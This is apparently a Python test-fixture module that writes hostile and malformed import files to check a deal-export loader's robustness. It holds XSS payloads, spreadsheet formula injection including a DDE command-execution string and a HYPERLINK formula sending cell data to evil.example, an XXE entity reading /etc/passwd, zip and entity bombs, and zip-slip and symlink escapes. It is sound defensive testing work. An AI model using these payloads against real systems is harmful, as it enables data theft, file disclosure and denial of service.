"""A corpus of broken and hostile inputs, written on demand (nothing binary is kept in the repo).

Each case is a folder: the hostile file(s) and, beside them, one good export that must still load.
`CASES[name] = (writer, expectations)`; a writer gets the case folder. Expectations per file name:
  ("loaded", rows_read, rows_loaded)  the file is read and its rows accounted exactly
  ("problem", regex)                  a one-line problem matching regex (it names what the file is)
Bytes are shaped as the real writers produce them (Bitrix24 csv.php: all quoted, `;` after every
field; Excel / openpyxl workbooks; 1C CommerceML and 1CClientBankExchange).
"""
from __future__ import annotations

import io
import os
import random
import re
import zipfile
from pathlib import Path

import openpyxl

GOOD = "good_deals.csv"
GOOD_ROWS = 20
MAVEN = ["opportunity_id", "sales_agent", "product", "account", "deal_stage", "engage_date", "close_date", "close_value"]
B24 = ["ID", "Название сделки", "Стадия сделки", "Сумма", "Валюта", "Компания", "Контакт", "Ответственный", "Дата создания"]
PAYLOADS = ("<script>alert(1)</script>", "<img src=x onerror=alert(2)>", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
            "=cmd|' /C calc'!A0", "+SUM(1,2)", "@SUM(A1:A2)", "-2+3")


def maven_csv(n: int, start: int = 0, eol: str = "\n") -> str:
    rows = "".join(f"X{i:06d},Agent {i % 7},GTX Basic,Acme {i},Won,2016-10-20,2017-03-01,{1000 + i}{eol}"
                   for i in range(start, start + n))
    return ",".join(MAVEN) + eol + rows


def bitrix_csv(rows: list[list[str]]) -> str:
    def line(cells):
        return "".join('"' + c.replace('"', '""') + '";' for c in cells) + "\r\n"
    return line(B24) + "".join(line(r) for r in rows)


def b24_rows(n: int, start: int = 0, title=lambda i: f"Поставка {i}") -> list[list[str]]:
    return [[str(start + i), title(i), "Сделка успешна", f"{1000 + i}.00", "Российский рубль", f"ООО \"Ромашка {i}\"",
             "", "Мария Сидорова", "12.03.2024 10:15:00"] for i in range(n)]


def xlsx(rows: int = 30) -> bytes:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(MAVEN)
    for i in range(rows):
        ws.append([f"W{i:04d}", f"Agent {i}", "GTX Basic", f"Acme {i}", "Lost", "2016-10-20", "2017-03-01", 10 + i])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def rezip(data: bytes, member: str, change) -> bytes:
    """The same workbook with one entry rewritten (how a hostile workbook is made from a real one)."""
    src, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            body = src.read(info.filename)
            dst.writestr(info.filename, change(body) if info.filename == member else body)
    return out.getvalue()


def _put(folder: Path, name: str, data: bytes | str) -> None:
    (folder / name).write_bytes(data.encode("utf-8") if isinstance(data, str) else data)


def _good(folder: Path) -> None:
    _put(folder, GOOD, maven_csv(GOOD_ROWS, start=900000))


def w_empty(f):
    _put(f, "empty.csv", b"")


def w_binary(f):
    rnd = random.Random(5)
    _put(f, "random.csv", bytes(rnd.randrange(256) for _ in range(20000)))


def w_truncated_xlsx(f):
    _put(f, "truncated.xlsx", xlsx()[:3000])


def w_xlsx_bomb(f):
    sheet = "xl/worksheets/sheet1.xml"
    pad = b"<row r=\"40\"><c r=\"A40\" t=\"inlineStr\"><is><t>" + b" " * 50_000_000 + b"</t></is></c></row>"
    _put(f, "bomb.xlsx", rezip(xlsx(), sheet, lambda d: d.replace(b"</sheetData>", pad + b"</sheetData>")))


def w_xlsx_corner(f):
    sheet = "xl/worksheets/sheet1.xml"
    cell = b"<row r=\"1048576\"><c r=\"XFD1048576\" t=\"inlineStr\"><is><t>x</t></is></c></row>"
    _put(f, "corner.xlsx", rezip(xlsx(), sheet, lambda d: re.sub(rb"<dimension ref=\"[^\"]+\"/>", b"", d)
                                  .replace(b"</sheetData>", cell + b"</sheetData>")))


def w_zip_bomb(f):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("deals.csv", b"0" * 50_000_000)
    _put(f, "exports_bomb.zip", buf.getvalue())


def w_zip_slip(f):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("../../escaped.csv", maven_csv(3))
        info = zipfile.ZipInfo("link.csv")
        info.external_attr = (0o120777 << 16)
        z.writestr(info, "/etc/passwd")
        z.writestr("inside.csv", maven_csv(4, start=500))
    _put(f, "slip.zip", buf.getvalue())


def w_zip_of_exports(f):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("export/deals.csv", maven_csv(7, start=700))
        z.writestr("__MACOSX/._deals.csv", b"\x00\x05\x16\x07")
    _put(f, "exports.zip", buf.getvalue())


def w_controls(f):
    rows = b24_rows(5, title=lambda i: f"Поставка\x00 {i}\x07\x1b[31m" if i in (1, 3) else f"Поставка {i}")
    _put(f, "DEAL_controls.csv", "\ufeff" + bitrix_csv(rows))


def w_glob_names(f):
    _put(f, "deals*.csv", maven_csv(3, start=100))
    _put(f, "deals[1].csv", maven_csv(4, start=200))
    _put(f, "deals1.csv", maven_csv(5, start=300))
    _put(f, "deals?.csv", maven_csv(6, start=400))


def w_stray_quote(f):
    text = maven_csv(3000).splitlines(keepends=True)
    text.insert(4, 'BAD1,Agent "X,GTX Basic,"Acme unterminated,Won,2016-10-20,2017-03-01,5\n')
    _put(f, "stray_quote.csv", "".join(text))


def w_cr_only(f):
    _put(f, "mac.csv", maven_csv(9, eol="\r"))


def w_utf16(f):
    _put(f, "utf16_nobom.csv", maven_csv(8).encode("utf-16-le"))


def w_cp1251(f):
    _put(f, "DEAL_cp1251.csv", bitrix_csv(b24_rows(6)).encode("cp1251"))


def w_wide(f):
    _put(f, "wide.csv", ",".join(f"c{i}" for i in range(6000)) + "\n" + ",".join("1" for _ in range(6000)) + "\n")


def w_long_line(f):
    _put(f, "one_line.csv", "a;" * 400_000)


def w_xxe(f):
    _put(f, "xxe.xml", """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<КоммерческаяИнформация ВерсияСхемы="2.10"><Документ><Ид>1</Ид><Номер>&secret;</Номер><Дата>2024-03-01</Дата>
<ХозОперация>Счет на оплату</ХозОперация><Сумма>10</Сумма></Документ></КоммерческаяИнформация>""")


def w_entity_bomb(f):
    ents = "".join(f'<!ENTITY e{i} "' + f"&e{i - 1};" * 10 + '">' for i in range(1, 10))
    _put(f, "laughs.xml", f"""<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e0 "lol">{ents}]>
<КоммерческаяИнформация><Документ><Номер>&e9;</Номер></Документ></КоммерческаяИнформация>""")


def w_deep_nesting(f):
    _put(f, "deep.xml", "<?xml version=\"1.0\"?>" + "<a>" * 200_000 + "</a>" * 200_000)
    _put(f, "deep.html", "<table>" + "<tr><td><div>" * 50_000 + "x" + "</div></td></tr>" * 50_000 + "</table>")


def w_injection(f):
    rows = [[str(10 + i), p, "Сделка провалена", "100.00", "Российский рубль", p, "", "Мария Сидорова",
             "12.03.2024 10:15:00"] for i, p in enumerate(PAYLOADS)]
    _put(f, "DEAL_<img src=x onerror=alert(9)>.csv", "\ufeff" + bitrix_csv(rows))
    _put(f, "=HYPERLINK(1).csv", maven_csv(2, start=600))


def w_bank_wrong_codepage(f):
    text = "\r\n".join(["1CClientBankExchange", "ВерсияФормата=1.03", "Кодировка=DOS", "РасчСчет=40702810900000000001",
                        "СекцияДокумент=Платежное поручение", "Номер=1", "Дата=01.03.2024", "Сумма=100.00",
                        "ПлательщикСчет=40702810100000000777", "Плательщик=ООО \"Вектор\"",
                        "ПолучательСчет=40702810900000000001", "Получатель=ООО \"Ромашка\"", "КонецДокумента",
                        "КонецФайла", ""])
    _put(f, "kl_to_1c.txt", text.encode("cp1251"))


def w_links_and_pipes(f):
    outside = f.parent / (f.name + "_outside.csv")
    outside.write_text(maven_csv(2))
    os.symlink("/nonexistent/file.csv", f / "dangling.csv")
    os.symlink(outside, f / "outside.csv")
    os.mkfifo(f / "pipe.csv")
    (f / "folder.csv").mkdir()


def w_header_only(f):
    _put(f, "DEAL_header_only.csv", "\ufeff" + bitrix_csv([]))


CASES = {
    "empty": (w_empty, {"empty.csv": ("problem", r"empty")}),
    "binary": (w_binary, {"random.csv": ("problem", r"binary|corrupt")}),
    "truncated_xlsx": (w_truncated_xlsx, {"truncated.xlsx": ("problem", r"damaged|truncated")}),
    "xlsx_bomb": (w_xlsx_bomb, {"bomb.xlsx": ("problem", r"zip bomb|expands")}),
    "xlsx_far_corner": (w_xlsx_corner, {"corner.xlsx": ("problem", r"cells .*limit")}),
    "zip_bomb": (w_zip_bomb, {"exports_bomb.zip": ("problem", r"zip bomb|expands")}),
    "zip_slip": (w_zip_slip, {"slip.zip/../../escaped.csv": ("problem", r"outside"),
                              "slip.zip/link.csv": ("problem", r"symbolic link"),
                              "slip.zip/inside.csv": ("loaded", 4, 4)}),
    "zip_of_exports": (w_zip_of_exports, {"exports.zip/export/deals.csv": ("loaded", 7, 7)}),
    "control_characters": (w_controls, {"DEAL_controls.csv": ("loaded", 5, 5)}),
    "glob_names": (w_glob_names, {"deals*.csv": ("loaded", 3, 3), "deals[1].csv": ("loaded", 4, 4),
                                  "deals1.csv": ("loaded", 5, 5), "deals?.csv": ("loaded", 6, 6)}),
    "stray_quote": (w_stray_quote, {"stray_quote.csv": ("loaded", 3001, 3000)}),
    "cr_only": (w_cr_only, {"mac.csv": ("loaded", 9, 9)}),
    "utf16_without_bom": (w_utf16, {"utf16_nobom.csv": ("not-binary",)}),
    "cp1251": (w_cp1251, {"DEAL_cp1251.csv": ("loaded", 6, 6)}),
    "wide": (w_wide, {"wide.csv": ("problem", r"columns \(limit")}),
    "long_line": (w_long_line, {"one_line.csv": ("problem", r"no line break")}),
    "xxe": (w_xxe, {"xxe.xml": ("any",)}),
    "entity_bomb": (w_entity_bomb, {"laughs.xml": ("any",)}),
    "deep_nesting": (w_deep_nesting, {"deep.xml": ("any",), "deep.html": ("any",)}),
    "injection": (w_injection, {"DEAL_<img src=x onerror=alert(9)>.csv": ("loaded", len(PAYLOADS), len(PAYLOADS)),
                                "=HYPERLINK(1).csv": ("loaded", 2, 2)}),
    "bank_wrong_codepage": (w_bank_wrong_codepage, {"kl_to_1c.txt": ("loaded", 1, 1)}),
    "links_and_pipes": (w_links_and_pipes, {"dangling.csv": ("problem", r"missing"),
                                            "outside.csv": ("problem", r"outside the given folder"),
                                            "pipe.csv": ("problem", r"named pipe"),
                                            "folder.csv": ("problem", r"folder named like a file")}),
    "header_only": (w_header_only, {"DEAL_header_only.csv": ("problem", r"header only")}),
}


def write_case(name: str, folder: Path) -> None:
    folder.mkdir(parents=True)
    _good(folder)
    CASES[name][0](folder)
